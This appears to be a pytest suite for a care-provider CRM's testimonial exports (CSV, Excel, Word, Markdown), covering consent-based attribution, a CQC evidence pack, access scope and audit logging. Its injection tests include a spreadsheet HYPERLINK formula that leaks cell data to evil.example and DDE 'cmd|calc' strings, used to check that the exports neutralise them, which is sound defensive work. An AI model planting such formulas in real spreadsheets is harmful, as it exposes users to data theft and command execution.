"""Exports: formula-safe cells (CSV and XLSX), and testimonial exports in every format read back with their reader
libraries (csv, openpyxl, python-docx, the Markdown text): content, attribution per audience, newest first, the Word
evidence pack's title page, grouping and summary, every injection prefix, each actor's scope, and the audit trail."""

import csv
import io
import re
from datetime import date

import docx
import openpyxl
import pytest

from crm import clock, exports, testimonials
from crm.errors import ValidationError
from tests.conftest import World
from tests.test_testimonials import (
    ACTORS,
    AUDIENCES,
    BRANCHES,
    CONSENT_TABLE,
    FROZEN,
    IN_SCOPE,
    NAMED,
    PDF,
    ROLE,
    add,
    audit_entries,
    build_world,
    copy_world,
    with_consent,
)

FORMATS = ("csv", "xlsx", "docx", "md")
PREFIXES = ("=", "+", "-", "@", "\t", "\r")
SPREADSHEET_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\0")
INTRO = (
    "Each quote is reproduced with the giver's consent and attributed as they agreed. Quotes are grouped by "
    "the CQC quality statement they evidence; a quote may appear under more than one statement. The evidence "
    "file named under each quote is kept by the provider and can be shown on request."
)
CONTENTS_NOTE = "Page numbers appear when the contents are updated in Word (right-click, Update Field)."
KEY = (
    "Quality statements: W6: Partnerships and communities; E3: How staff, teams and services work together; "
    "S2: Safe systems, pathways and transitions; R2: Care provision, integration and continuity; "
    "R4: Listening to and involving people."
)
SUMMARY_HEADER = ["Partner type", "W6", "E3", "S2", "R2", "R4", "Testimonials"]
YUSUF = "Yusuf York, Practice Manager, Hyde Park Surgery"
NURSING = "Community nursing (district nurses)"


@pytest.fixture(scope="module")
def template(tmp_path_factory):
    """The testimonials' world (with Olive Oak, a Leeds contact), built once because hashing passwords is slow."""
    path = tmp_path_factory.mktemp("exports") / "crm.db"
    return path, build_world(path)


@pytest.fixture
def world(template, tmp_path, monkeypatch) -> World:
    """A copy of the testimonials' world on its own file, the clock stopped on 2 March 2026."""
    monkeypatch.setattr(clock, "now", lambda: FROZEN)
    scene = copy_world(*template, tmp_path / "crm.db")
    yield scene
    scene.db.close()


def export(world: World, fmt: str, audience: str, actor=None, **filters) -> tuple[bytes, str]:
    return testimonials.export(
        world.db, actor or world.admin, fmt, audience, provider="Acme Care", scope_label="All branches", **filters
    )


def csv_rows(content: bytes) -> list[list[str]]:
    """The CSV's rows, header first; the file must start with a UTF-8 byte order mark (for Excel)."""
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_sheet(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content)).active


def xlsx_rows(content: bytes) -> list[list]:
    return [[cell.value for cell in row] for row in xlsx_sheet(content).iter_rows()]


def docx_paragraphs(content: bytes) -> list[tuple[str, str]]:
    return [(p.style.name, p.text) for p in docx.Document(io.BytesIO(content)).paragraphs]


def docx_tables(content: bytes) -> list[list[list[str]]]:
    return [[[c.text for c in row.cells] for row in t.rows] for t in docx.Document(io.BytesIO(content)).tables]


def quotes_in(fmt: str, content: bytes) -> list[str]:
    """The quotes of an export, in the order the file holds them."""
    if fmt == "csv":
        return [row[1] for row in csv_rows(content)[1:]]
    if fmt == "xlsx":
        return [row[1] for row in xlsx_rows(content)[1:]]
    if fmt == "docx":
        return [text.strip("“”") for style, text in docx_paragraphs(content) if style == "Quote"]
    lines = content.decode("utf-8").splitlines()
    return [line[2:] for line in lines if line.startswith("> ") and not line.startswith("> — ")]


def attributions_in(fmt: str, content: bytes) -> list[str]:
    """The attribution of each quote of an export (without the month the Word and Markdown files add)."""
    if fmt == "csv":
        return [row[2] for row in csv_rows(content)[1:]]
    if fmt == "xlsx":
        return [row[2] for row in xlsx_rows(content)[1:]]
    if fmt == "docx":
        paragraphs = docx_paragraphs(content)
        lines = [paragraphs[i + 1][1] for i, (style, _) in enumerate(paragraphs) if style == "Quote"]
    else:
        lines = [line[4:] for line in content.decode("utf-8").splitlines() if line.startswith("> — ")]
    return [line.rsplit(", ", 1)[0] for line in lines]


# Formula-safe cells.


@pytest.mark.parametrize("prefix", SPREADSHEET_PREFIXES)
def test_safe_cell_puts_an_apostrophe_before_a_formula_prefix(prefix):
    """Test that safe_cell() turns text starting with each formula prefix into text starting with an apostrophe."""
    assert exports.safe_cell(f"{prefix}SUM(A1:A9)") == f"'{prefix}SUM(A1:A9)"


@pytest.mark.parametrize("value", ["Kind words", " =not at the start", "a=b", "", "'quoted", 42, -3, 1.5, None])
def test_safe_cell_leaves_other_values_alone(value):
    """Test that safe_cell() leaves text not starting with a formula prefix, and every non-text value, unchanged."""
    assert exports.safe_cell(value) == value


def test_to_csv_escapes_every_formula_prefix():
    """Test that to_csv() writes a header and rows in which every formula-like cell starts with an apostrophe,
    read back with the csv module."""
    rows = [{"Text": f"{prefix}cmd|' /C calc'!A0", "Number": -5} for prefix in SPREADSHEET_PREFIXES]

    text = exports.to_csv(rows, ["Text", "Number"])

    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["Text", "Number"],
        *[[f"'{prefix}cmd|' /C calc'!A0", "-5"] for prefix in SPREADSHEET_PREFIXES],
    ]


def test_to_xlsx_stores_every_formula_prefix_as_text():
    """Test that to_xlsx() stores formula-like text as plain string cells starting with an apostrophe (never a
    formula cell), numbers as numbers, and bolds and freezes the header row."""
    rows = [{"Text": f"{prefix}1+2", "Number": 7} for prefix in SPREADSHEET_PREFIXES]

    sheet = xlsx_sheet(exports.to_xlsx(rows, ["Text", "Number"], "A sheet title longer than thirty-one characters"))

    assert sheet.title == "A sheet title longer than thirt"
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["Text", "Number"],
        ["'=1+2", 7],
        ["'+1+2", 7],
        ["'-1+2", 7],
        ["'@1+2", 7],
        ["'\t1+2", 7],
        ["'\r1+2", 7],
        ["'1+2", 7],  # the NUL byte XML cannot hold is dropped
    ]
    assert {c.data_type for row in sheet.iter_rows() for c in row} == {"s", "n"}
    assert [c.font.bold for c in sheet[1]] == [True, True]
    assert sheet.freeze_panes == "A2"


# The testimonial exports, whole.


@pytest.fixture
def scene(world) -> World:
    """Five testimonials from three branches: four that CQC may see (one also grouped under two statements, two of
    the same partner type under one statement) and one for internal use only."""
    yusuf = world.contact(world.york, "Yusuf York", organisation_id=world.gp, job_title="Practice Manager")
    world.a = with_consent(
        world, "public", "role", received_on="2026-02-20", statements=["W6", "S2"], themes="Discharge"
    )
    world.b = with_consent(
        world,
        "cqc",
        "named",
        branch_id=world.york,
        contact_id=yusuf,
        quote="Always on time, and always kind.",
        received_on="2026-01-15",
        source="card",
        themes="kindness",
        statements=["E3", "W6"],
        evidence=("Card from Yusuf, Jan 2026.pdf", PDF),
    )
    world.c = with_consent(
        world,
        "public",
        "anonymous",
        branch_id=world.bristol,
        contact_id=None,
        giver_name="Gita Green",
        giver_role="District Nurse Lead",
        organisation_name="Bristol Community Health",
        type_code="COMMUNITY_NURSING",
        quote="A real partner in keeping people at home.",
        received_on="2026-02-27",
        source="survey",
    )
    world.d = with_consent(world, "internal", "named", quote="Internal note of thanks.", received_on="2026-02-25")
    world.e = with_consent(
        world, "public", "named", quote="Thank you for the joint visit.", received_on="2026-01-05", statements=["W6"]
    )
    return world


CQC_ROWS = [
    [
        "2026-02-27",
        "A real partner in keeping people at home.",
        f"Anonymous, {NURSING}",
        NURSING,
        "Bristol",
        "South",
        "Survey",
        "",
        "",
        "Public",
        "Anonymous",
        "2026-02-21",
        "",
    ],
    [
        "2026-02-20",
        "The carers made the discharge home safe and calm.",
        ROLE,
        "Council adult social care",
        "Leeds",
        "North",
        "Email",
        "discharge",
        "S2 Safe systems, pathways and transitions; W6 Partnerships and communities",
        "Public",
        "Role and organisation",
        "2026-02-21",
        "",
    ],
    [
        "2026-01-15",
        "Always on time, and always kind.",
        YUSUF,
        "GP practice",
        "York",
        "North",
        "Card",
        "kindness",
        "E3 How staff, teams and services work together; W6 Partnerships and communities",
        "CQC and commissioners",
        "Named person",
        "2026-02-21",
        "",
    ],
    [
        "2026-01-05",
        "Thank you for the joint visit.",
        NAMED,
        "Council adult social care",
        "Leeds",
        "North",
        "Email",
        "",
        "W6 Partnerships and communities",
        "Public",
        "Named person",
        "2026-02-21",
        "",
    ],
]


def test_csv_export_whole(scene):
    """Test that the CSV export starts with a BOM, has the export columns, and holds exactly the rows CQC may see,
    newest first, each attributed as agreed and with its consent."""
    content, name = export(scene, "csv", "cqc")

    assert name == "testimonials-cqc-2026-03-02.csv"
    assert csv_rows(content) == [testimonials.EXPORT_COLUMNS, *CQC_ROWS]


def test_xlsx_export_whole(scene):
    """Test that the Excel export has one sheet "Testimonials" with the export columns and exactly the rows CQC may
    see, newest first, every cell a string (none a formula)."""
    content, name = export(scene, "xlsx", "cqc")

    sheet = xlsx_sheet(content)
    assert (name, sheet.title) == ("testimonials-cqc-2026-03-02.xlsx", "Testimonials")
    assert xlsx_rows(content) == [
        testimonials.EXPORT_COLUMNS,
        *[[value if value != "" else None for value in row] for row in CQC_ROWS],
    ]
    assert {c.data_type for row in sheet.iter_rows() for c in row if c.value is not None} == {"s"}


def test_docx_evidence_pack_whole(scene):
    """Test that the Word evidence pack has a title page naming provider, scope, period, audience and count, then
    the quotes grouped by CQC quality statement (in the framework's order) then partner type (alphabetical),
    newest first within each group and attributed for the audience, then a summary table of counts by partner
    type and statement."""
    content, name = export(scene, "docx", "cqc")

    assert name == "testimonials-cqc-2026-03-02.docx"
    assert docx_paragraphs(content) == [
        ("Title", "Feedback from partners"),
        ("Normal", "Acme Care"),
        ("Normal", "Covering: All branches"),
        ("Normal", "Period: 5 January 2026 to 27 February 2026"),
        ("Normal", "Prepared for: CQC and commissioners"),
        ("Normal", "Prepared on: 2 March 2026"),
        ("Normal", "Testimonials: 4"),
        ("Normal", INTRO),
        ("Heading 1", "Contents"),
        ("List Bullet", "W6: Partnerships and communities"),
        ("List Bullet", "E3: How staff, teams and services work together"),
        ("List Bullet", "S2: Safe systems, pathways and transitions"),
        ("List Bullet", "Not linked to a quality statement"),
        ("List Bullet", "Summary"),
        ("Normal", CONTENTS_NOTE),
        ("Heading 1", "W6: Partnerships and communities"),
        ("Heading 2", "Council adult social care"),
        ("Quote", "“The carers made the discharge home safe and calm.”"),
        ("Normal", f"{ROLE}, February 2026"),
        ("Normal", "Evidence file: none kept (email)"),
        ("Quote", "“Thank you for the joint visit.”"),
        ("Normal", f"{NAMED}, January 2026"),
        ("Normal", "Evidence file: none kept (email)"),
        ("Heading 2", "GP practice"),
        ("Quote", "“Always on time, and always kind.”"),
        ("Normal", f"{YUSUF}, January 2026"),
        ("Normal", "Evidence file: Card from Yusuf, Jan 2026.pdf"),
        ("Heading 1", "E3: How staff, teams and services work together"),
        ("Heading 2", "GP practice"),
        ("Quote", "“Always on time, and always kind.”"),
        ("Normal", f"{YUSUF}, January 2026"),
        ("Normal", "Evidence file: Card from Yusuf, Jan 2026.pdf"),
        ("Heading 1", "S2: Safe systems, pathways and transitions"),
        ("Heading 2", "Council adult social care"),
        ("Quote", "“The carers made the discharge home safe and calm.”"),
        ("Normal", f"{ROLE}, February 2026"),
        ("Normal", "Evidence file: none kept (email)"),
        ("Heading 1", "Not linked to a quality statement"),
        ("Heading 2", NURSING),
        ("Quote", "“A real partner in keeping people at home.”"),
        ("Normal", f"Anonymous, {NURSING}, February 2026"),
        ("Normal", "Evidence file: none kept (survey)"),
        ("Heading 1", "Summary"),
        ("Normal", KEY),
    ]
    assert docx_tables(content) == [
        [
            SUMMARY_HEADER,
            [NURSING, "0", "0", "0", "0", "0", "1"],
            ["Council adult social care", "2", "0", "1", "0", "0", "2"],
            ["GP practice", "1", "1", "0", "0", "0", "1"],
        ]
    ]
    document = docx.Document(io.BytesIO(content))
    assert [r.bold for r in document.paragraphs[1].runs] == [True]
    assert [(r.text, r.italic) for r in document.paragraphs[18].runs] == [(f"{ROLE}, February 2026", True)]


def test_docx_evidence_pack_is_a4_with_properties_page_numbers_and_contents(scene):
    """Test that the evidence pack is laid out on A4 portrait (210 x 297 mm) with its document properties set from
    the export (title, author = the provider, created = now, not python-docx's template values), a header naming
    the pack and a footer with PAGE and NUMPAGES fields on every page but the cover, and a TOC field whose shown
    result is the plain list of the pack's sections."""
    content, _ = export(scene, "docx", "cqc")

    document = docx.Document(io.BytesIO(content))
    section = document.sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)
    assert len(document.sections) == 1
    properties = document.core_properties
    assert (properties.title, properties.author, properties.last_modified_by, properties.created) == (
        "Feedback from partners: Acme Care, All branches",
        "Acme Care",
        "Acme Care",
        FROZEN,
    )
    assert (properties.modified, properties.revision, properties.language) == (FROZEN, 1, "en-GB")
    assert section.different_first_page_header_footer is True
    assert [p.text for p in section.header.paragraphs] == ["Feedback from partners: Acme Care, All branches"]
    footer_xml = section.footer._element.xml
    assert re.findall(r"<w:instrText[^>]*>([^<]*)</w:instrText>", footer_xml) == [" PAGE ", " NUMPAGES "]
    assert re.findall(r'w:fldCharType="(\w+)"', footer_xml) == ["begin", "separate", "end"] * 2
    assert [p.text for p in section.footer.paragraphs] == [
        "For CQC and commissioners. Prepared on 2 March 2026.    Page 1 of 1"
    ]
    body_xml = document.element.body.xml
    assert re.findall(r"<w:instrText[^>]*>([^<]*)</w:instrText>", body_xml) == [' TOC \\o "1-1" \\h \\z \\u ']
    # The field begins in the first item of the list and ends in the last, so the list is what it shows.
    items = [p for p in document.paragraphs if p.style.name == "List Bullet"]
    assert 'w:fldCharType="begin"' in items[0]._p.xml and 'w:fldCharType="end"' in items[-1]._p.xml
    assert 'w:fldCharType="separate"' in items[0]._p.xml


def test_docx_names_each_quotes_evidence_file_beside_it(scene):
    """Test that each quote in the pack is followed by its attribution and then the name of its evidence file, or
    "none kept" with how it came when no file is held."""
    content, _ = export(scene, "docx", "cqc")

    texts = [text for _, text in docx_paragraphs(content)]
    beside = {texts[i]: texts[i + 2] for i, (style, _) in enumerate(docx_paragraphs(content)) if style == "Quote"}
    assert beside == {
        "“The carers made the discharge home safe and calm.”": "Evidence file: none kept (email)",
        "“Thank you for the joint visit.”": "Evidence file: none kept (email)",
        "“Always on time, and always kind.”": "Evidence file: Card from Yusuf, Jan 2026.pdf",
        "“A real partner in keeping people at home.”": "Evidence file: none kept (survey)",
    }


def test_docx_title_page_for_a_period_and_when_nothing_matches(scene):
    """Test that the evidence pack's title page shows the period asked for, and that an export matching nothing
    says "all dates" and 0 testimonials and still ends with an (empty) summary table."""
    content, _ = export(scene, "docx", "public", since=date(2026, 2, 1), until=date(2026, 2, 28))
    assert docx_paragraphs(content)[3:7] == [
        ("Normal", "Period: 1 February 2026 to 28 February 2026"),
        ("Normal", "Prepared for: Public"),
        ("Normal", "Prepared on: 2 March 2026"),
        ("Normal", "Testimonials: 2"),
    ]

    content, _ = export(scene, "docx", "public", text="zebra")

    assert docx_paragraphs(content) == [
        ("Title", "Feedback from partners"),
        ("Normal", "Acme Care"),
        ("Normal", "Covering: All branches"),
        ("Normal", "Period: all dates"),
        ("Normal", "Prepared for: Public"),
        ("Normal", "Prepared on: 2 March 2026"),
        ("Normal", "Testimonials: 0"),
        ("Normal", INTRO),
        ("Heading 1", "Contents"),
        ("List Bullet", "Summary"),
        ("Normal", CONTENTS_NOTE),
        ("Heading 1", "Summary"),
        ("Normal", KEY),
    ]
    assert docx_tables(content) == [[SUMMARY_HEADER]]


def test_markdown_export_whole(scene):
    """Test that the Markdown export is a heading, the provider and scope, then each quote the public may see as a
    block quote with its attribution and month, newest first."""
    content, name = export(scene, "md", "public")

    assert name == "testimonials-public-2026-03-02.md"
    assert content.decode("utf-8") == (
        "# What our partners say\n"
        "\n"
        "Acme Care, All branches.\n"
        "\n"
        "> A real partner in keeping people at home.\n"
        ">\n"
        f"> — Anonymous, {NURSING}, February 2026\n"
        "\n"
        "> The carers made the discharge home safe and calm.\n"
        ">\n"
        f"> — {ROLE}, February 2026\n"
        "\n"
        "> Thank you for the joint visit.\n"
        ">\n"
        f"> — {NAMED}, January 2026\n"
    )


def test_internal_export_holds_everything_attributed_in_full(scene):
    """Test that the internal export holds every testimonial, withdrawn or not, each with name, role and
    organisation, newest first."""
    testimonials.withdraw_consent(scene.db, scene.admin, scene.e)

    content, _ = export(scene, "csv", "internal")

    assert [(row[0], row[2], row[9], row[12]) for row in csv_rows(content)[1:]] == [
        ("2026-02-27", "Gita Green, District Nurse Lead, Bristol Community Health", "Public", ""),
        ("2026-02-25", NAMED, "Internal only", ""),
        ("2026-02-20", NAMED, "Public", ""),
        ("2026-01-15", YUSUF, "CQC and commissioners", ""),
        ("2026-01-05", NAMED, "Public", "2026-03-02"),
    ]


def test_export_applies_the_search_filters(scene):
    """Test that an export holds exactly what the same filters list: text, theme, statement, branch and dates."""
    assert quotes_in("csv", export(scene, "csv", "cqc", text="kind")[0]) == ["Always on time, and always kind."]
    assert quotes_in("csv", export(scene, "csv", "cqc", statement="W6", since=date(2026, 1, 10))[0]) == [
        "The carers made the discharge home safe and calm.",
        "Always on time, and always kind.",
    ]
    assert quotes_in("csv", export(scene, "csv", "internal", branch_id=scene.leeds, theme="discharge")[0]) == [
        "The carers made the discharge home safe and calm."
    ]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("audience", AUDIENCES)
def test_every_format_holds_what_the_audience_may_see_attributed_as_agreed(world, audience, fmt):
    """Test that, with all 24 combinations of consent recorded, each format holds exactly the quotes the audience
    may see (internal 24, CQC 6, public 3), newest first, each attributed as its consent allows."""
    for day, (scope, attribution, withdrawn, *_) in enumerate(CONSENT_TABLE, start=1):
        with_consent(world, scope, attribution, withdrawn, quote=f"Quote number {day}.", received_on=date(2026, 1, day))
    column = 3 + AUDIENCES.index(audience)
    wanted = [
        (f"Quote number {day}.", row[column])
        for day, row in reversed(list(enumerate(CONSENT_TABLE, start=1)))
        if row[column]
    ]

    content, _ = export(world, fmt, audience)

    assert list(zip(quotes_in(fmt, content), attributions_in(fmt, content), strict=True)) == wanted
    assert len(wanted) == {"internal": 24, "cqc": 6, "public": 3}[audience]


# Formula and Markdown injection through the testimonial exports.


@pytest.mark.parametrize(
    ("typed", "stored"),
    [("=", "="), ("+", "+"), ("-", "-"), ("@", "@"), ("\t=", "="), ("\r+", "+"), ("\t\r@", "@")],
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return", "tab-carriage-return"],
)
def test_no_export_cell_is_a_formula_for_any_injection_prefix(world, typed, stored):
    """Test that a quote, giver's name and role, organisation and theme starting with a formula prefix (after the
    leading tab or carriage return trimming removes) come out as inert text: in CSV each such cell starts with an
    apostrophe and no cell starts with a formula prefix; in XLSX no cell is a formula or starts with a prefix; in
    Word and Markdown the text is shown as typed."""
    payload = 'HYPERLINK("http://evil.example/?leak="&A1,"Click for the pack")'
    add(
        world,
        contact_id=None,
        quote=typed + payload,
        giver_name=typed + "Nia",
        giver_role=typed + "Ward Manager",
        organisation_name=typed + "St James's",
        type_code="HOSPITAL_DISCHARGE",
        themes=f"{typed}cmd|' /c calc'!a0, kindness",
        consent_scope="public",
        attribution="named",
        consent_given_on="2026-02-21",
    )
    attribution = f"{stored}Nia, {stored}Ward Manager, {stored}St James's"

    rows = csv_rows(export(world, "csv", "public")[0])
    assert [(row[1], row[2], row[7]) for row in rows[1:]] == [
        (f"'{stored}{payload}", f"'{attribution}", f"'{stored}cmd|' /c calc'!a0, kindness")
    ]
    assert [cell for row in rows for cell in row if cell.startswith(SPREADSHEET_PREFIXES)] == []

    sheet = xlsx_sheet(export(world, "xlsx", "public")[0])
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(SPREADSHEET_PREFIXES)] == []
    assert [sheet["B2"].value, sheet["C2"].value, sheet["H2"].value] == [
        f"'{stored}{payload}",
        f"'{attribution}",
        f"'{stored}cmd|' /c calc'!a0, kindness",
    ]

    assert quotes_in("docx", export(world, "docx", "public")[0]) == [f"{stored}{payload}"]
    markdown = export(world, "md", "public")[0].decode("utf-8").splitlines()
    escaped = {"=": "=", "+": "\\+", "-": "\\-", "@": "@"}[stored]
    assert markdown[4:7] == [
        f'> {escaped}HYPERLINK("http://evil.example/?leak="&A1,"Click for the pack")',
        ">",
        f"> — {escaped}Nia, {stored}Ward Manager, {stored}St James's, February 2026",
    ]


def test_markdown_escapes_links_emphasis_html_and_line_starts(world):
    """Test that Markdown the quote or giver's name would act on (links, images, emphasis, code, HTML, tables,
    headings, lists) is escaped, so the text reads exactly as typed; a numbered-list start is escaped with a
    backslash before its dot (a backslash before a digit would be shown).

    Regression: a quote line starting "1." comes out as "\\1." instead of "1\\.", which Markdown renders with a
    stray backslash."""
    add(
        world,
        contact_id=None,
        quote=(
            "Read [this](http://evil.example) ![img](x.png) *now* _please_ <b>bold</b> `code` | pipe \\ back\n"
            "# Not a heading\n"
            "\n"
            "- not a list\n"
            "+ nor this\n"
            "12. nor this\n"
            "> nor a quote"
        ),
        giver_name="*Star* [link](http://evil.example)",
        giver_role="Lead_OT",
        type_code="COMMUNITY_THERAPY",
        consent_scope="public",
        attribution="named",
        consent_given_on="2026-02-21",
    )

    markdown = export(world, "md", "public")[0].decode("utf-8")

    assert markdown.splitlines()[4:] == [
        r"> Read \[this\](http://evil.example) !\[img\](x.png) \*now\* \_please\_ \<b\>bold\</b\> \`code\` \| pipe "
        r"\\ back",
        r"> \# Not a heading",
        ">",
        r"> \- not a list",
        r"> \+ nor this",
        r"> 12\. nor this",
        r"> \> nor a quote",
        ">",
        r"> — \*Star\* \[link\](http://evil.example), Lead\_OT, Community therapy (OT, physio, reablement), "
        "February 2026",
    ]


def test_markdown_escapes_the_provider_and_scope_too(world):
    """Test that the provider's name and the scope in the Markdown export's opening line are escaped like the
    quotes, so an administrator-entered name cannot become a link or emphasis on a public web page.

    Regression: exports.testimonials_markdown() writes meta["provider"] and meta["scope"] unescaped."""
    content, _ = testimonials.export(
        world.db,
        world.admin,
        "md",
        "public",
        provider="[Acme](http://evil.example) Care",
        scope_label="Leeds *Central*",
    )

    assert content.decode("utf-8") == (
        "# What our partners say\n\n\\[Acme\\](http://evil.example) Care, Leeds \\*Central\\*.\n"
    )


# Formats and the audit trail.


def test_unknown_format_is_refused_and_not_audited(world):
    """Test that an export in a format that does not exist is refused with the list of formats, unaudited."""
    with pytest.raises(ValidationError) as error:
        export(world, "pdf", "cqc")

    assert str(error.value) == "Format: must be one of: csv, xlsx, docx, md."
    assert audit_entries(world, "export_testimonials") == []


def test_unknown_audience_is_refused_and_not_audited(world):
    """Test that an export for an audience that does not exist is refused, unaudited."""
    with pytest.raises(ValidationError) as error:
        export(world, "csv", "everyone")

    assert str(error.value) == "Audience: must be one of: internal, cqc, public."
    assert audit_entries(world, "export_testimonials") == []


# Scope: every actor, every branch, every format.


@pytest.fixture
def branch_quotes(world) -> dict[str, str]:
    """One public testimonial in each branch, its quote naming the branch."""
    quotes = {}
    for day, branch in enumerate(BRANCHES, start=1):
        quotes[branch] = f"Thank you from the {branch.capitalize()} team."
        with_consent(
            world,
            "public",
            "anonymous",
            branch_id=getattr(world, branch),
            contact_id=None,
            giver_name="Gita",
            organisation_id=world.gp,
            quote=quotes[branch],
            received_on=date(2026, 2, day),
        )
    return quotes


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("who", ACTORS)
def test_export_holds_only_the_actors_branches_and_is_audited(world, branch_quotes, who, fmt):
    """Test that each actor's export, in every format, holds only their branches' testimonials (a branch manager
    their branch, a regional lead their region, an administrator all), and is audited with format, audience,
    count and scope."""
    actor = getattr(world, who)

    content, _ = testimonials.export(world.db, actor, fmt, "public", provider="Acme Care", scope_label="Mine")

    wanted = [branch_quotes[b] for b in reversed(BRANCHES) if b in IN_SCOPE[who]]
    assert quotes_in(fmt, content) == wanted
    assert audit_entries(world, "export_testimonials") == [
        {
            "username": actor.username,
            "action": "export_testimonials",
            "table_name": "testimonials",
            "row_id": None,
            "changes": {"format": fmt, "audience": "public", "count": len(wanted), "scope": "Mine"},
        }
    ]


@pytest.mark.parametrize("branch", BRANCHES)
@pytest.mark.parametrize("who", ACTORS)
def test_export_of_one_branch_is_empty_outside_scope(world, branch_quotes, who, branch):
    """Test that asking for one branch's export returns its testimonial only when the branch is in the actor's
    scope (nothing otherwise), and that the audit records the count actually exported."""
    actor = getattr(world, who)

    content, _ = testimonials.export(
        world.db,
        actor,
        "csv",
        "internal",
        provider="Acme Care",
        scope_label=branch,
        branch_id=getattr(world, branch),
    )

    wanted = [branch_quotes[branch]] if branch in IN_SCOPE[who] else []
    assert quotes_in("csv", content) == wanted
    [entry] = audit_entries(world, "export_testimonials")
    assert entry["changes"] == {"format": "csv", "audience": "internal", "count": len(wanted), "scope": branch}
